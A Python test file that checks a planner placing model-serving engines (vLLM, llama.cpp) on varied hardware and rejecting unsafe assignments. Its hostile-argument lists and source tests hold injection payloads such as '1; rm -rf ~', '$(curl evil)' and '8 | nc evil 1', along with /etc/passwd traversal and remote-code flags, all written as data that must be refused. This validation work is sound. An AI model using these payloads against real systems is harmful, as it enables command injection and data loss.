from __future__ import annotations

import time
from dataclasses import replace
from typing import Any

import pytest

from tests.worker.hardware.recorded import replay
from worker.contract import protocol
from worker.system.config import Settings
from worker.engines.allowlist import MAX_JSON_BYTES
from worker.hardware import EngineInstall, GpuGroup, Machine
from worker.plan.planner import EnginePlan, Plan, Refusal, plan

BASE = ["--max-model-len", "32768", "--enforce-eager"]
TIER_24 = ["--no-enforce-eager", "--max-num-seqs", "128"]
TIER_40 = ["--no-enforce-eager", "--max-num-seqs", "128", "--max-model-len", "65536"]


def assign(weights_mib: int = 17800, *, vllm: dict[str, Any] | None = None, llamacpp: dict[str, Any] | None = None,
           engines: tuple[str, ...] = ("vllm", "llamacpp")) -> protocol.Assign:
    """The protocol's example assignment, with the weights (and any field) changed per case."""
    model: dict[str, Any] = {"name": "qwen3.8-27b"}
    if "vllm" in engines:
        model["vllm"] = {
            "source": "org/Qwen3.8-27B-W4A16", "revision": "main", "engine_version": "0.33.0",
            "weights_mib": weights_mib, "base_args": BASE, "tiers": {"24000": TIER_24, "40000": TIER_40},
        } | (vllm or {})
    if "llamacpp" in engines:
        model["llamacpp"] = {
            "source": "https://example.org/qwen3.8-27b-Q4_K_M.gguf", "sha256": "ab" * 32, "weights_mib": weights_mib,
            "base_args": ["--ctx-size", "32768"], "tiers": {"40000": ["--ctx-size", "65536"]},
        } | (llamacpp or {})
    return protocol.Assign(assignment_id="a-17", model=model)


def layout_of(result: Plan | Refusal) -> list[tuple[tuple[int, ...], str, int, str | None]]:
    assert isinstance(result, Plan), result
    return [(e.gpu_indices, e.layout, e.memory_mib, e.tier) for e in result.engines]


# (fixture, weights MiB, expected engines as (gpus, layout, memory judged by, tier))
LAYOUTS = [
    ("rtx4090x2-no-p2p.json", 17800, [((0, 1), "tensor", 41200, "40000")]),
    ("rtx4090x2-no-p2p.json", 6200, [((0,), "replica", 20600, None), ((1,), "replica", 20600, None)]),
    ("rtx4090x2-no-p2p.json", 30000, [((0, 1), "tensor", 41200, "40000")]),
    ("rtx5090.json", 17800, [((0,), "single", 27715, "24000")]),
    ("rtx4090.json", 17800, [((0,), "single", 20600, None)]),
    ("rtx4090-rtx3060.json", 17800, [((0,), "single", 20600, None)]),
    ("rtx4090-rtx3060.json", 6200, [((0,), "replica", 20600, None), ((1,), "replica", 10136, None)]),
    ("h100x8-nvlink.json", 17800, [((i,), "replica", 72391, "40000") for i in range(8)]),
    ("h100x8-nvlink.json", 40000, [((i,), "replica", 72391, "40000") for i in range(8)]),
    ("h100x8-nvlink.json", 140000, [((0, 1, 2, 3), "tensor", 289564, "40000"), ((4, 5, 6, 7), "tensor", 289564, "40000")]),
    ("h100x8-nvlink.json", 100000, [((0, 1), "tensor", 144782, "40000"), ((2, 3), "tensor", 144782, "40000"),
                                    ((4, 5), "tensor", 144782, "40000"), ((6, 7), "tensor", 144782, "40000")]),
    ("h200.json", 17800, [((0,), "single", 128382, "40000")]),
    ("wsl2-rtx4090.json", 17300, [((0,), "single", 19298, None)]),
]


@pytest.mark.parametrize(("fixture", "weights", "engines"), LAYOUTS)
def test_layout_and_tier(fixture, weights, engines):
    assert layout_of(plan(replay(fixture), assign(weights), Settings())) == engines


def test_two_4090s_with_the_27b_model_run_one_tensor_parallel_engine():
    result = plan(replay("rtx4090x2-no-p2p.json"), assign(17800), Settings())
    assert isinstance(result, Plan) and result.engine == "vllm"
    (engine,) = result.engines
    assert engine.args == tuple(BASE + TIER_40)
    assert engine.fallbacks == (("24000", tuple(BASE + TIER_24)), (None, tuple(BASE)))
    assert engine.env == {"CUDA_VISIBLE_DEVICES": "0,1"}
    assert engine.argv() == [
        "vllm", "serve", "org/Qwen3.8-27B-W4A16", *BASE, *TIER_40, "--tensor-parallel-size", "2",
        "--gpu-memory-utilization", "0.838", "--host", "127.0.0.1", "--port", "18100",
        "--served-model-name", "qwen3.8-27b",
    ]  # the API key travels in the engine's environment, never on its command line


def test_fallback_argv_and_lowest_tier_falls_back_to_base_alone():
    (engine,) = plan(replay("rtx5090.json"), assign(17800), Settings()).engines
    assert engine.fallbacks == ((None, tuple(BASE)),)
    retry = engine.argv(args=engine.fallbacks[0][1])
    assert retry[3:6] == BASE and "--no-enforce-eager" not in retry


def test_replicas_get_distinct_ports_and_their_own_gpu():
    result = plan(replay("rtx4090-rtx3060.json"), assign(6200, vllm={"tiers": {"16000": ["--max-num-seqs", "64"]}}), Settings(), first_port=20000)
    assert isinstance(result, Plan)
    assert [(e.engine_id, e.port, e.env["CUDA_VISIBLE_DEVICES"], e.tier) for e in result.engines] == [
        ("e0", 20000, "0", "16000"), ("e1", 20001, "1", None)
    ]


def test_plan_json_shows_the_command_without_the_key():
    data = plan(replay("rtx4090x2-no-p2p.json"), assign(6200), Settings()).to_json()
    assert data["engine"] == "vllm"
    assert [set(e) for e in data["engines"]] == [{"engine_id", "gpu_indices", "layout", "memory_mib", "argv"}] * 2
    argv = data["engines"][1]["argv"]
    assert "--api-key" not in argv and "***" not in argv
    assert argv[argv.index("--port") + 1] == "18101"


def test_engine_environment_comes_from_the_adapter():
    (engine,) = plan(replay("rtx5090.json"), assign(17800), Settings()).engines
    env = engine.environment({"GPU_PROVIDER_TOKEN": "t", "PATH": "/bin"})
    assert env["CUDA_VISIBLE_DEVICES"] == "0" and "GPU_PROVIDER_TOKEN" not in env and env["DO_NOT_TRACK"] == "1"


def test_apple_silicon_gets_llama_cpp_over_the_working_set():
    result = plan(replay("m4-max-128gb.json"), assign(16500), Settings(), model_path="/cache/q.gguf")
    assert isinstance(result, Plan) and result.engine == "llamacpp"
    (engine,) = result.engines
    assert (engine.gpu_indices, engine.layout, engine.memory_mib, engine.tier) == ((0,), "single", 98304, "40000")
    assert engine.argv() == [
        "llama-server", "-m", "/cache/q.gguf", "--ctx-size", "32768", "--ctx-size", "65536", "--fit", "off",
        "--host", "127.0.0.1", "--port", "18100", "--alias", "qwen3.8-27b", "--metrics",
    ]
    assert engine.memory_utilization is None


def test_the_detected_engine_binary_is_used():
    machine = replace(replay("no-gpu.json"), engines={"llamacpp": EngineInstall("b6153", "/opt/llama/llama-server")})
    (engine,) = plan(machine, assign(6000), Settings()).engines
    assert engine.argv()[0] == "/opt/llama/llama-server"
    (explicit,) = plan(machine, assign(6000), Settings(), executable=["/x/llama-server"]).engines
    assert explicit.argv()[0] == "/x/llama-server"


def test_cpu_machine_gets_llama_cpp_over_ram():
    result = plan(replay("no-gpu.json"), assign(16500), Settings())
    assert layout_of(result) == [((), "single", 24105, None)]
    assert result.engines[0].model == "ab" * 32 + ".gguf"  # a download is named by its sha256


def _machine(runtime: str, groups: tuple[GpuGroup, ...], **extra: Any) -> Machine:
    return Machine(os="linux", runtime=runtime, arch="x86_64", cpu_model="cpu", cpu_cores=8, ram_mib=65536,
                   groups=groups, effective_vram_mib=groups[0].usable_mib_total if groups else 0, **extra)


def test_windows_runs_one_llama_cpp_engine_splitting_layers_over_the_whole_group():
    # 21,624 MiB usable per card, less the 1,024 MiB llama.cpp keeps spare on Windows
    group = GpuGroup((0, 1), "NVIDIA GeForce RTX 4090", 21624, compute_capability="8.9")
    result = plan(_machine("windows", (group,)), assign(30000), Settings())
    assert layout_of(result) == [((0, 1), "layers", 41200, "40000")]
    assert result.engine == "llamacpp" and result.engines[0].tensor_parallel == 1


def test_llama_cpp_on_one_card_is_single():
    group = GpuGroup((0,), "NVIDIA GeForce RTX 4090", 21624, compute_capability="8.9")
    assert layout_of(plan(_machine("windows", (group,)), assign(6000), Settings())) == [((0,), "single", 20600, None)]


def test_old_gpus_cannot_run_vllm():
    group = GpuGroup((0,), "NVIDIA GeForce GTX 1080 Ti", 10000, compute_capability="6.1")
    result = plan(_machine("native", (group,)), assign(6000), Settings())
    assert isinstance(result, Refusal) and "compute capability 7.5" in result.reason


def test_gpus_to_lend_limits_the_plan():
    machine = replay("rtx4090x2-no-p2p.json", Settings(gpus_to_lend=(1,)))
    assert layout_of(plan(machine, assign(17800), Settings())) == [((1,), "single", 20600, None)]


@pytest.mark.parametrize(
    ("fixture", "weights", "words"),
    [
        ("rtx4090.json", 19000, "does not fit"),
        ("rtx4090x2-no-p2p.json", 40000, "does not fit"),
        ("h100x8-nvlink.json", 600000, "does not fit"),
        ("m4-max-128gb.json", 90000, "working set"),
        ("no-gpu.json", 22000, "RAM"),
    ],
)
def test_models_that_fit_nowhere_are_refused(fixture, weights, words):
    result = plan(replay(fixture), assign(weights), Settings())
    assert isinstance(result, Refusal) and words in result.reason and f"{weights:,} MiB" in result.reason


def test_no_engine_for_this_runtime_is_refused():
    result = plan(replay("m4-max-128gb.json"), assign(16500, engines=("vllm",)), Settings())
    assert isinstance(result, Refusal)
    assert result.reason == "model 'qwen3.8-27b' has no llamacpp build, and this machine's runtime (apple-silicon) runs only llamacpp"
    assert result.to_json() == {"error": result.reason}


@pytest.mark.parametrize("source", ["../etc/passwd", "http://example.org/x.gguf", "org/../x", "file:///etc/passwd"])
def test_bad_sources_are_refused(source):
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"source": source}), Settings())
    assert isinstance(result, Refusal)
    assert source in result.reason


def test_a_gguf_download_without_its_sha256_is_refused():
    result = plan(replay("no-gpu.json"), assign(6000, llamacpp={"sha256": None}), Settings())
    assert isinstance(result, Refusal) and "sha256" in result.reason


def test_an_engine_version_the_app_does_not_ship_is_refused():
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"engine_version": "0.6.0"}), Settings())
    assert isinstance(result, Refusal) and "0.6.0" in result.reason


def test_arguments_are_checked_before_the_version_and_the_source():
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"engine_version": "0.6.0", "source": "../x",
                                                             "tiers": {"24000": ["--log-file", "/x"]}}), Settings())
    assert isinstance(result, Refusal) and result.reason.startswith("argument not allowed: --log-file (in tier 24000): ")


VLLM_HOSTILE = [
    ["--host=0.0.0.0"], ["--host", "0.0.0.0"], ["--port", "8000"], ["--port=1"], ["--api-key", "x"],
    ["--api_key", "x"], ["--served-model-name", "other"], ["--served_model_name=other"], ["--hos", "0.0.0.0"],
    ["-tp", "4"], ["--tensor-parallel-size=8"], ["--uds", "/tmp/s"], ["--config", "x.yaml"], ["--model", "evil/m"],
    ["--headless"], ["--data-parallel-address", "0.0.0.0"], ["VLLM_API_KEY=x"], ["VLLM_HOST_IP=0.0.0.0"],
    ["--trust-remote-code"], ["--trust_remote_code"], ["--trust-remote"], ["--tool-parser-plugin", "/x.py"],
    ["--middleware", "evil.mod"], ["--worker-cls", "evil.W"], ["--speculative-config", '{"method":"custom_class"}'],
    ["--max-model-len", "32768\n--host"], ["--max-model-len", "32768\x00"], ["--max-model-len", "1; rm -rf ~"],
    ["--chat-template", "$(curl evil)"], ["--served", "`id`"], ["--max-num-seqs", "8 | nc evil 1"], ["--x", "a>b"],
    ["--reasoning-parser", "deepseek_r1"], ["--hf-overrides", '{"rope_scaling": {"factor": 2.0}}'],
]


@pytest.mark.parametrize("args", VLLM_HOSTILE)
def test_hostile_vllm_arguments_are_refused_in_base_args_and_in_any_tier(args):
    in_base = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": BASE + args}), Settings())
    in_unused_tier = plan(replay("rtx4090.json"), assign(6000, vllm={"tiers": {"90000": args}}), Settings())
    for result, where in ((in_base, "(in base_args): "), (in_unused_tier, "(in tier 90000): ")):
        assert isinstance(result, Refusal)
        assert result.reason.startswith(("argument not allowed: ", "value not allowed for ")) and where in result.reason


LLAMA_HOSTILE = [
    ["--host", "0.0.0.0"], ["--port", "1"], ["--api-key", "k"], ["--api-key-file", "/k"], ["-a", "other"],
    ["--alias=other"], ["-m", "/other.gguf"], ["-hf", "evil/model"], ["--rpc", "10.0.0.1:50052"],
    ["--fim-qwen-7b-default"], ["--path", "/"], ["LLAMA_ARG_HOST=0.0.0.0"], ["LLAMA_API_KEY=k"],
    ["--tools", "all"], ["--agent"], ["--mcp-servers-config", "/x.json"], ["--ctx-size", "8192\n--host"],
    ["-ot", "exps=CPU"],
]


@pytest.mark.parametrize("args", LLAMA_HOSTILE)
def test_hostile_llama_cpp_arguments_are_refused(args):
    result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": args}), Settings())
    assert isinstance(result, Refusal), args
    assert result.reason.startswith(("argument not allowed: ", "value not allowed for ")), result.reason


@pytest.mark.parametrize(
    "args",
    [["--max-model-len", "-1"], ["--max-model-len", "auto"], ["--no-trust-remote-code"],
     ["--speculative-config", '{"method":"mtp","num_speculative_tokens":2}'], ["--max-model-len", "25.6k"],
     ["--kv-cache-dtype", "fp8"], ["--max-num-batched-tokens=8k"], ["-O3"], ["-cc", '{"cudagraph_mode": "PIECEWISE"}'],
     ["--enable-prefix-caching", "--enable-chunked-prefill", "--max-num-batched-tokens", "4096"]],
)
def test_ordinary_vllm_arguments_pass(args):
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": args}), Settings())
    assert isinstance(result, Plan) and list(result.engines[0].args) == args


def test_llama_cpp_moe_offload_is_a_listed_flag():
    result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": ["-ncmoe", "8", "-fa", "on"]}),
                  Settings())
    assert isinstance(result, Plan)


def test_remote_code_passes_only_where_the_settings_allow_it():
    code = assign(6000, vllm={"base_args": ["--trust-remote-code"]})
    assert isinstance(plan(replay("rtx4090.json"), code, Settings(allow_remote_code=True)), Plan)
    refused = plan(replay("rtx4090.json"), code, Settings())
    assert isinstance(refused, Refusal) and refused.reason.startswith("argument not allowed: --trust-remote-code")


@pytest.mark.parametrize("args", [["--uds", "/tmp/x"], ["--port", "9"], ["--host", "0.0.0.0"], ["-tp", "2"]])
def test_app_owned_and_forbidden_flags_stay_refused_whatever_the_settings(args):
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": args}), Settings(allow_remote_code=True))
    assert isinstance(result, Refusal) and result.reason.startswith(f"argument not allowed: {args[0]} (in base_args)")


# --- the memory cap (contract, Assignment rule 3) -----------------------------------------------------------

CAP = "--gpu-memory-utilization"


def only_engine(result: Plan | Refusal) -> EnginePlan:
    assert isinstance(result, Plan), result
    (engine,) = result.engines
    return engine


def test_a_cap_leaves_the_args_and_is_recorded():
    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [CAP, "0.9", *BASE]}), Settings()))
    assert engine.memory_cap == 0.9 and engine.args == tuple(BASE + TIER_24)
    assert CAP not in engine.args and all(CAP not in args for _, args in engine.fallbacks)
    argv = engine.argv()
    assert argv.count(CAP) == 1 and argv[argv.index(CAP) + 1] == "0.849"  # measured 27,715 / 32,607 < the cap
    assert engine.fallbacks == ((None, tuple(BASE)),)


def test_no_cap_means_none():
    assert only_engine(plan(replay("rtx5090.json"), assign(17800), Settings())).memory_cap is None


def test_the_tier_is_judged_by_the_capped_memory():
    """5090: 27,715 MiB usable of 32,607; a 0.7 cap holds it to 22,824 MiB, below the 24000 tier."""
    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.7"]}), Settings()))
    assert (engine.tier, engine.memory_mib, engine.memory_cap, engine.args) == (None, 22824, 0.7, tuple(BASE))


def test_a_cap_above_what_is_usable_changes_nothing():
    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.95"]}), Settings()))
    assert (engine.tier, engine.memory_mib, engine.memory_cap) == ("24000", 27715, 0.95)


def test_the_last_cap_wins_and_the_alias_counts():
    base = [CAP, "0.5", *BASE, "--device-memory-utilization=0.7"]
    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": base}), Settings()))
    assert (engine.memory_cap, engine.memory_mib, engine.args) == (0.7, 22824, tuple(BASE))


def test_a_tier_is_judged_under_its_own_cap():
    """The 24000 tier's own 0.7 cap would leave 22,824 MiB, so the tier is not taken; under 0.8 it is."""
    low = assign(17800, vllm={"tiers": {"24000": [*TIER_24, CAP, "0.7"]}})
    high = assign(17800, vllm={"tiers": {"24000": [*TIER_24, f"{CAP}=0.8"]}})
    assert (only_engine(plan(replay("rtx5090.json"), low, Settings())).tier,
            only_engine(plan(replay("rtx5090.json"), low, Settings())).memory_cap) == (None, None)
    taken = only_engine(plan(replay("rtx5090.json"), high, Settings()))
    assert (taken.tier, taken.memory_mib, taken.memory_cap, taken.args) == ("24000", 26085, 0.8, tuple(BASE + TIER_24))


def test_fit_and_layout_are_judged_by_the_cap():
    """Two 4090s under a 0.8 cap: 19,651 MiB a card, too little for 17,800 MiB of weights on one card at
    90 %, so still one tensor-parallel engine, now judged by 39,302 MiB: the 24000 tier, not 40000."""
    result = plan(replay("rtx4090x2-no-p2p.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.8"]}), Settings())
    assert layout_of(result) == [((0, 1), "tensor", 39302, "24000")]


def test_a_model_that_fits_only_without_the_cap_is_refused_naming_the_cap():
    result = plan(replay("rtx4090.json"), assign(17800, vllm={"base_args": [CAP, "0.5"]}), Settings())
    assert isinstance(result, Refusal)
    assert "12,282 MiB usable each, held to the assignment's memory cap of 0.5" in result.reason


@pytest.mark.parametrize("value", ["0", "1.5", "-0.1", "nan", "90%", "0,9"])
def test_a_cap_outside_0_to_1_is_refused(value):
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": [CAP, value]}), Settings())
    assert isinstance(result, Refusal) and result.reason.startswith(f"value not allowed for {CAP} (in base_args): ")


def test_engine_plan_is_frozen():
    (engine,) = plan(replay("rtx4090.json"), assign(6000), Settings()).engines
    assert isinstance(engine, EnginePlan)
    with pytest.raises(AttributeError):
        engine.port = 1  # type: ignore[misc]


# --- the memory share vLLM is told (contract, Assignment rule 3) ------------------------------------

def utilization_flag(engine: EnginePlan, args: tuple[str, ...] | None = None) -> str:
    argv = engine.argv(args)
    assert argv.count(CAP) == 1, argv
    return argv[argv.index(CAP) + 1]


def test_a_display_attached_card_gets_its_measured_share_not_vllms_default():
    """21,614 of 24,564 MiB free (the desktop holds 2,950): usable 18,940 MiB, a share of 0.7710…
    → 0.771; vLLM's default 0.92 would ask for 22,599 MiB, more than is free."""
    engine = only_engine(plan(replay("rtx4090-desktop.json"), assign(6000), Settings()))
    assert engine.memory_utilization == 0.771 and utilization_flag(engine) == "0.771"
    assert engine.memory_utilization * 24564 <= 21614 < 0.92 * 24564


def test_a_tensor_parallel_engine_is_told_the_smallest_share_of_its_cards():
    """Card 0 has 23,980 MiB free (usable 21,070: 0.857), card 1 23,458 (usable 20,600: 0.838)."""
    tensor = only_engine(plan(replay("rtx4090x2-no-p2p.json"), assign(17800), Settings()))
    assert (tensor.gpu_indices, tensor.memory_utilization) == ((0, 1), 0.838)
    replicas = plan(replay("rtx4090x2-no-p2p.json"), assign(6200), Settings())
    assert isinstance(replicas, Plan)
    assert [(e.gpu_indices, e.memory_utilization) for e in replicas.engines] == [((0,), 0.857), ((1,), 0.838)]


def test_the_share_is_rounded_down_never_up():
    machine = replay("rtx4090.json")
    (gpu,) = machine.gpus
    nearly_all = replace(machine, gpus=(replace(gpu, memory_total_mib=20601),))  # 20,600 / 20,601 = 0.99995
    assert only_engine(plan(nearly_all, assign(6000), Settings())).memory_utilization == 0.999
    assert only_engine(plan(machine, assign(6000), Settings())).memory_utilization == 0.838  # 0.83862


def test_a_cap_below_the_measured_share_is_what_vllm_is_told():
    capped = assign(17800, vllm={"base_args": [*BASE, CAP, "0.7"]})
    engine = only_engine(plan(replay("rtx5090.json"), capped, Settings()))
    assert (engine.memory_cap, engine.memory_utilization, utilization_flag(engine)) == (0.7, 0.7, "0.7")
    above = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.95"]}),
                             Settings()))
    assert (above.memory_cap, above.memory_utilization) == (0.95, 0.849)


def test_every_retry_runs_with_the_same_share():
    engine = only_engine(plan(replay("h200.json"), assign(17800), Settings()))
    assert engine.tier == "40000" and len(engine.fallbacks) == 2
    assert {utilization_flag(engine, args) for _, args in engine.fallbacks} == {utilization_flag(engine)} == {"0.892"}


def test_the_share_flag_is_among_the_app_owned_flags_after_the_assignments_args():
    engine = only_engine(plan(replay("rtx4090-desktop.json"), assign(6000), Settings()))
    argv = engine.argv(socket_path="/run/e0.sock")
    assert argv[len(argv) - 8:] == [CAP, "0.771", "--host", "127.0.0.1", "--uds", "/run/e0.sock",
                                    "--served-model-name", "qwen3.8-27b"]


def test_llama_cpp_is_told_no_share_and_runs_without_fit():
    group = GpuGroup((0,), "NVIDIA GeForce RTX 4090", 20600, compute_capability="8.9")
    engine = only_engine(plan(_machine("windows", (group,)), assign(6000), Settings()))
    assert engine.memory_utilization is None and CAP not in engine.argv()
    assert engine.argv()[-9:-7] == ["--fit", "off"]


# --- vLLM under WSL2 (engines.md A8) -----------------------------------------------------------------

def test_vllm_on_wsl2_gets_pinned_memory():
    engine = only_engine(plan(replay("wsl2-rtx4090.json"), assign(6000), Settings()))
    assert engine.env == {"CUDA_VISIBLE_DEVICES": "0", "VLLM_WSL2_ENABLE_PIN_MEMORY": "1"}  # 0.33.0: V2 runner is fine


def test_an_installed_vllm_before_0_30_on_wsl2_also_gets_the_v1_model_runner():
    machine = replace(replay("wsl2-rtx4090.json"), engines={"vllm": EngineInstall("0.28.1", "/opt/vllm/bin/vllm")})
    engine = only_engine(plan(machine, assign(6000, vllm={"engine_version": None}), Settings()))
    assert engine.env == {"CUDA_VISIBLE_DEVICES": "0", "VLLM_WSL2_ENABLE_PIN_MEMORY": "1",
                          "VLLM_USE_V2_MODEL_RUNNER": "0"}
    newer = replace(machine, engines={"vllm": EngineInstall("0.31.0", "/opt/vllm/bin/vllm")})
    assert "VLLM_USE_V2_MODEL_RUNNER" not in only_engine(plan(newer, assign(6000, vllm={"engine_version": None}),
                                                              Settings())).env


def test_native_linux_gets_no_wsl_settings():
    engine = only_engine(plan(replay("rtx4090.json"), assign(6000), Settings()))
    assert engine.env == {"CUDA_VISIBLE_DEVICES": "0"}


# --- warnings (field note 004: a bigger prefill chunk cost a drafter its CUDA graph) ------------------

SPEC = ["--speculative-config", '{"method":"mtp","num_speculative_tokens":2}']


def warnings_for(fixture: str, base: list[str], tier: list[str]) -> tuple[str, ...]:
    result = plan(replay(fixture), assign(6000, vllm={"base_args": base, "tiers": {"16000": tier}}), Settings())
    assert isinstance(result, Plan) and {e.tier for e in result.engines} == {"16000"}, result
    return result.warnings


def test_a_speculative_tier_that_raises_the_batch_budget_is_warned_about():
    (warning,) = warnings_for("rtx4090.json", [*BASE, "--max-num-batched-tokens", "2048", *SPEC],
                              ["--max-num-batched-tokens", "8k"])
    assert "tier 16000 raises --max-num-batched-tokens to 8k (base: 2048)" in warning
    assert "speculative" in warning and "109 to 19 tokens/s" in warning


def test_the_warning_is_given_once_for_many_engines_and_shown_in_the_plan_json():
    base, tier = [*BASE, *SPEC], ["--max-num-batched-tokens=4096"]
    result = plan(replay("rtx4090x2-no-p2p.json"), assign(6200, vllm={"base_args": base, "tiers": {"16000": tier}}),
                  Settings())
    assert isinstance(result, Plan) and len(result.engines) == 2
    assert len(result.warnings) == 1 and "(base: 2048)" in result.warnings[0]  # vLLM's default on a 24 GiB card
    assert result.to_json()["warnings"] == list(result.warnings)


@pytest.mark.parametrize(("fixture", "base", "tier"), [
    ("rtx4090.json", [*BASE, "--max-num-batched-tokens", "2048"], ["--max-num-batched-tokens", "8192"]),  # no drafter
    ("rtx4090.json", [*BASE, "--max-num-batched-tokens", "8192", *SPEC], ["--max-num-batched-tokens", "2048"]),
    ("rtx4090.json", [*BASE, "--max-num-batched-tokens", "2048", *SPEC], ["--max-num-seqs", "64"]),
    ("h200.json", [*BASE, *SPEC], ["--max-num-batched-tokens", "8192"]),  # vLLM's default there is 8192
])
def test_no_warning_without_a_drafter_or_a_raised_budget(fixture, base, tier):
    assert warnings_for(fixture, base, tier) == ()


# --- sizes (contract, Assignment rule 4): bounded before anything else, linear after -----------

JSON_64_KIB = '{"mode": 3' + " " * (MAX_JSON_BYTES - 11) + "}"
SWITCHES = ["--enforce-eager", "--no-enforce-eager"] * 127  # 254 arguments


def test_an_assignment_at_every_size_limit_is_planned_within_2_s():
    base = ["--compilation-config", JSON_64_KIB, *SWITCHES]
    tiers = {str(1000 * (i + 1)): [*SWITCHES, "--max-num-seqs", str(i + 1)] for i in range(32)}
    assert len(JSON_64_KIB) == MAX_JSON_BYTES and len(base) == 256 and all(len(t) == 256 for t in tiers.values())
    started = time.perf_counter()
    engine = only_engine(plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": base, "tiers": tiers}),
                              Settings()))
    assert time.perf_counter() - started < 2
    assert engine.tier == "20000" and engine.args == (*base, *tiers["20000"])
    assert engine.fallbacks == (("19000", (*base, *tiers["19000"])), (None, tuple(base)))


@pytest.mark.parametrize(("vllm", "reason"), [
    ({"base_args": ["--enforce-eager"] * 257}, "vllm base_args has 257 arguments (at most 256)"),
    ({"tiers": {"24000": ["--enforce-eager"] * 257}}, "vllm tier 24000 has 257 arguments (at most 256)"),
    ({"tiers": {str(i): [] for i in range(33)}}, "vllm has 33 tiers (at most 32)"),
    ({"base_args": ["--compilation-config", JSON_64_KIB + " "]},
     "an argument in vllm base_args is 65,537 bytes long (at most 65,536)"),
    ({"tiers": {"9": ["--max-model-len", "1" * 70_000]}}, "an argument in vllm tier 9 is 70,000 bytes long"),
])
def test_over_a_size_limit_the_assignment_is_refused_naming_it(vllm, reason):
    result = plan(replay("rtx4090.json"), assign(6000, vllm=vllm), Settings())
    assert isinstance(result, Refusal) and result.reason.startswith("assignment too large: ")
    assert reason in result.reason


def test_sizes_are_checked_first_and_in_every_engine_block():
    """The llama.cpp block is not the one a 4090 would run, and the vLLM block's tier names a
    refused flag: the size is still what is refused, before anything else is read."""
    result = plan(replay("rtx4090.json"), assign(6000, vllm={"tiers": {"24000": ["--log-file", "/x"]}},
                                                   llamacpp={"base_args": ["-cb"] * 300}), Settings())
    assert isinstance(result, Refusal)
    assert result.reason == "assignment too large: llamacpp base_args has 300 arguments (at most 256)"


def test_a_failure_inside_planning_is_a_refusal_that_names_it(monkeypatch, caplog):
    """Fault injection: whatever a step raises reaches the coordinator as a reason, never as a
    dead task (a 5,000-deep JSON value once raised RecursionError out of `plan`)."""
    def broken(engine: str, version: str | None, runtime: str | None = None) -> str | None:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr("worker.plan.planner.version_problem", broken)
    result = plan(replay("rtx4090.json"), assign(6000), Settings())
    assert result == Refusal("this app could not plan the assignment (RecursionError); nothing was started")
    assert "planning assignment 'a-17' failed" in caplog.text and "maximum recursion depth" in caplog.text


def test_a_model_name_past_256_bytes_is_refused_before_it_reaches_an_engine_command_line():
    """The name is the engine's served name (argv, /v1/models) and is repeated in every status."""
    def named(name: str) -> protocol.Assign:
        base = assign(6000)
        return base.model_copy(update={"model": base.model.model_copy(update={"name": name})})

    result = plan(replay("rtx4090.json"), named("é" * 129), Settings())  # 258 bytes
    assert result == Refusal("assignment too large: the model name is 258 bytes long (at most 256)")
    assert not isinstance(plan(replay("rtx4090.json"), named("m" * 256), Settings()), Refusal)
